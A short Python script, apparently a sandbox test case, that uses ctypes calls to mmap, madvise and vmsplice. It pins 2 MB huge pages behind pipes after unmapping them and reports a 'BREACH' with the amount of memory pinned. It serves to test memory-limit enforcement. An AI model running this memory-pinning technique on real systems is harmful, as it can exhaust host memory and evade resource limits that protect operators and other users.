# kind: memory
# ends: ok, error, memory
import ctypes
import os
import time

HUGE = 2 << 20
libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
libc.munmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t]
libc.madvise.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
libc.vmsplice.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_size_t, ctypes.c_uint]


class Piece(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


pinned, pipes, begun = 0, [], time.time()
while pinned < 300 and time.time() - begun < 1.5:  # one small page in a pipe keeps 2 MB that nobody maps any more
    pipes.append(os.pipe())
    os.set_blocking(pipes[-1][1], False)
    for _ in range(15):
        start = libc.mmap(None, 2 * HUGE, 3, 0x22, -1, 0)
        page = (start + HUGE - 1) // HUGE * HUGE
        libc.madvise(page, HUGE, 14)
        ctypes.memset(page, 1, HUGE)
        kept = libc.vmsplice(pipes[-1][1], ctypes.byref(Piece(page, 4096)), 1, 2)
        libc.munmap(start, 2 * HUGE)
        if kept < 0:
            raise SystemExit("refused")
        pinned += 1
print("BREACH: pinned", pinned * 2, "MB", flush=True)
